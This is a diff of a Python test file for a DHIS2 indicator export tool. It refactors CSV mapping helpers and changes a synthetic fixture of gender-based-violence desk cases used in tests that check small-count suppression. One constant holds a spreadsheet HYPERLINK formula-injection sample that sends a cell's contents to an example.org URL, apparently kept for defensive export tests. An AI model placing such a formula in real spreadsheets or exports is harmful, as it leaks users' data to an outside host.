@@ -15,7 +15,6 @@ import xmlschema
 
 from main import main
 from storage.records.approvals import decide
-from storage.records.desk import save_desk_case
 from storage.records.values import save_indicator_values
 from storage.reports.dhis2 import (
     ADX_NAMESPACE,
@@ -33,6 +32,7 @@ from storage.views.entry_sheet import submit_sheet
 from sync.importer import import_bundles
 from tests.conftest import CLERK_PASSWORD, SUPERVISOR_PASSWORD
 from tests.sync_helpers import add_values, export_to, last_month, make_pair
+from tests.test_reports import _desk_cases as quetta_march_2024_cases
 
 XSD = Path(__file__).parent / "fixtures" / "adx" / "adx.xsd"
 FORMULA = '=HYPERLINK("http://example.org/?"&A1,"see")'
@@ -62,12 +62,25 @@ def centre_values(clerk):
     return clerk
 
 
+def mapping_rows(path: Path) -> list[dict]:
+    with path.open(encoding="utf-8-sig", newline="") as handle:
+        return list(csv.DictReader(handle))
+
+
+def write_rows(path: Path, rows: list[dict]) -> Path:
+    """A mapping saved as a spreadsheet saves it: CSV UTF-8, the template's columns."""
+    with path.open("w", encoding="utf-8", newline="") as handle:
+        writer = csv.DictWriter(handle, fieldnames=list(rows[0]))
+        writer.writeheader()
+        writer.writerows(rows)
+    return path
+
+
 def fill_mapping(template: Path, out: Path, scheme: str = "uid", leave_empty=lambda row: False) -> Path:
     """The template filled as a DHIS2 administrator would: a data element per indicator and quantity, a
     category option combo per cell (none for the total), a data set per institution, an org unit per
     district. ``leave_empty(row)``: rows left without identifiers."""
-    with template.open(encoding="utf-8-sig", newline="") as handle:
-        rows = list(csv.DictReader(handle))
+    rows = mapping_rows(template)
     for row in rows:
         if leave_empty(row):
             continue
@@ -77,11 +90,7 @@ def fill_mapping(template: Path, out: Path, scheme: str = "uid", leave_empty=lam
             row[f"category_option_combo_{scheme}"] = "" if row["cell"] == "total" else row["cell"]
         elif not row["desk"]:
             row[f"org_unit_{scheme}"] = "OU" + row["district"]
-    with out.open("w", encoding="utf-8", newline="") as handle:
-        writer = csv.DictWriter(handle, fieldnames=list(rows[0]))
-        writer.writeheader()
-        writer.writerows(rows)
-    return out
+    return write_rows(out, rows)
 
 
 @pytest.fixture
@@ -164,15 +173,10 @@ def test_a_percent_is_sent_as_its_numerator_and_denominator(centre_values, mappi
 
 
 def test_a_mapping_that_sends_a_percent_s_value_is_refused(centre_values, mapping: Path, tmp_path: Path):
-    with mapping.open(encoding="utf-8", newline="") as handle:
-        rows = list(csv.DictReader(handle))
+    rows = mapping_rows(mapping)
     rows.append({**next(row for row in rows if row["indicator"] == "PRO-04"), "quantity": "value",
                  "data_element_uid": "PRO-04.percent"})
-    bad = tmp_path / "bad.csv"
-    with bad.open("w", encoding="utf-8", newline="") as handle:
-        writer = csv.DictWriter(handle, fieldnames=list(rows[0]))
-        writer.writeheader()
-        writer.writerows(rows)
+    bad = write_rows(tmp_path / "bad.csv", rows)
     with pytest.raises(ExportRefused) as refused:
         export_dhis2(centre_values, bad, tmp_path / "out.json", "json", period="2025-10")
     assert str(refused.value) == f"1 problem(s) in the mapping {bad}; nothing was written."
@@ -234,12 +238,7 @@ def test_adx_needs_a_data_set_for_each_value(centre_values, tmp_path: Path):
     template = tmp_path / "template.csv"
     write_mapping_template(centre_values, template)
     no_sets = fill_mapping(template, tmp_path / "map.csv")
-    with no_sets.open(encoding="utf-8", newline="") as handle:
-        rows = [{**row, "data_set_uid": ""} for row in csv.DictReader(handle)]
-    with no_sets.open("w", encoding="utf-8", newline="") as handle:
-        writer = csv.DictWriter(handle, fieldnames=list(rows[0]))
-        writer.writeheader()
-        writer.writerows(rows)
+    write_rows(no_sets, [{**row, "data_set_uid": ""} for row in mapping_rows(no_sets)])
     with pytest.raises(ExportRefused) as refused:
         export_dhis2(centre_values, no_sets, tmp_path / "out.adx", "adx", period="2025Q4")
     assert refused.value.items == ["CRT-04 total denominator: no data set, which ADX needs (1 value(s))",
@@ -351,36 +350,22 @@ def test_approved_only_sends_only_the_figures_of_approved_data_sets(tmp_path: Pa
 # -- desk figures ------------------------------------------------------------------------------------------------
 
 
-def _desk_cases(session) -> None:
-    """Quetta, March 2025: 8 consented physical assaults of adult women (5 referred), 2 consented rapes of girls."""
-    referred = [{"service": "legal_aid", "status": "referred", "date": "2025-03-10"}]
-    for number in range(8):
-        save_desk_case(session, {
-            "desk": "QTA-CITY", "report_date": "2025-03-10", "incident_date": "2025-03-09",
-            "client_code": f"PA-{number}", "client_sex": "female", "client_age": 30, "classification_answers": "nny",
-            "gbv_type": "physical_assault", "consent_services": True, "consent_reporting": True},
-            services=referred if number < 5 else [])
-    for number in range(2):
-        save_desk_case(session, {
-            "desk": "QTA-CITY", "report_date": "2025-03-20", "client_code": f"R-{number}", "client_sex": "female",
-            "client_age": 15, "classification_answers": "y", "gbv_type": "rape", "consent_services": True,
-            "consent_reporting": True})
-
-
 def test_a_small_desk_count_leaves_in_no_format(supervisor, tmp_path: Path):
-    _desk_cases(supervisor)
+    # Quetta, March 2024 (the desk report's cases): 8 consented physical assaults of adult women (5 referred),
+    # 2 consented rapes of girls, and a case without consent to reporting.
+    quetta_march_2024_cases(supervisor)
     write_mapping_template(supervisor, tmp_path / "template.csv")
     mapping_path = fill_mapping(tmp_path / "template.csv", tmp_path / "map.csv")
     mapping = read_mapping(supervisor.catalogue, mapping_path)
     catalogue = supervisor.catalogue
     for fmt in ("adx", "json", "csv"):
         out = tmp_path / f"desk.{fmt}"
-        summary = export_dhis2(supervisor, mapping_path, out, fmt, period="2025-03")
+        summary = export_dhis2(supervisor, mapping_path, out, fmt, period="2024-03")
         assert summary.suppressed > 0 and summary.skipped_unmapped == 0
         sent = {(row["indicator"], row["cell"]): row for row in read_export(catalogue, mapping, out, fmt)}
         assert ("POL-09", "age=adult;gbv_type=sexual_assault;sex=female") in sent  # zeros leave: they identify nobody
         assert ("POL-09", RAPE_CELL) not in sent  # the 2 rapes
-        assert "R-0" not in out.read_text(encoding="utf-8")  # nor anything of a case itself
+        assert "R-0" not in out.read_text(encoding="utf-8") and "PA-0" not in out.read_text(encoding="utf-8")
         # Nor can they be worked out: the clients' total less the cells sent, or less those with an incident date.
         clients = sent.get(("POL-09", "total"), {}).get("value")
         cells_sent = sum(row["value"] for (code, cell), row in sent.items() if code == "POL-09" and cell != "total")
@@ -394,17 +379,12 @@ def test_a_small_desk_count_leaves_in_no_format(supervisor, tmp_path: Path):
 
 
 def test_two_rows_sent_to_the_same_dhis2_figure_are_refused(centre_values, mapping: Path, tmp_path: Path):
-    with mapping.open(encoding="utf-8", newline="") as handle:
-        rows = list(csv.DictReader(handle))
+    rows = mapping_rows(mapping)
     numbers = {(row["indicator"], row["cell"], row["quantity"]): number for number, row in enumerate(rows, start=2)}
     for row in rows:
         if (row["indicator"], row["cell"], row["quantity"]) == ("POL-02", "sex=male", "value"):
             row["category_option_combo_uid"] = "sex=female"  # a slip when copying identifiers
-    clash = tmp_path / "clash.csv"
-    with clash.open("w", encoding="utf-8", newline="") as handle:
-        writer = csv.DictWriter(handle, fieldnames=list(rows[0]))
-        writer.writeheader()
-        writer.writerows(rows)
+    clash = write_rows(tmp_path / "clash.csv", rows)
     with pytest.raises(ExportRefused) as refused:
         export_dhis2(centre_values, clash, tmp_path / "out.csv", "csv", period="2025-10")
     assert refused.value.items == [
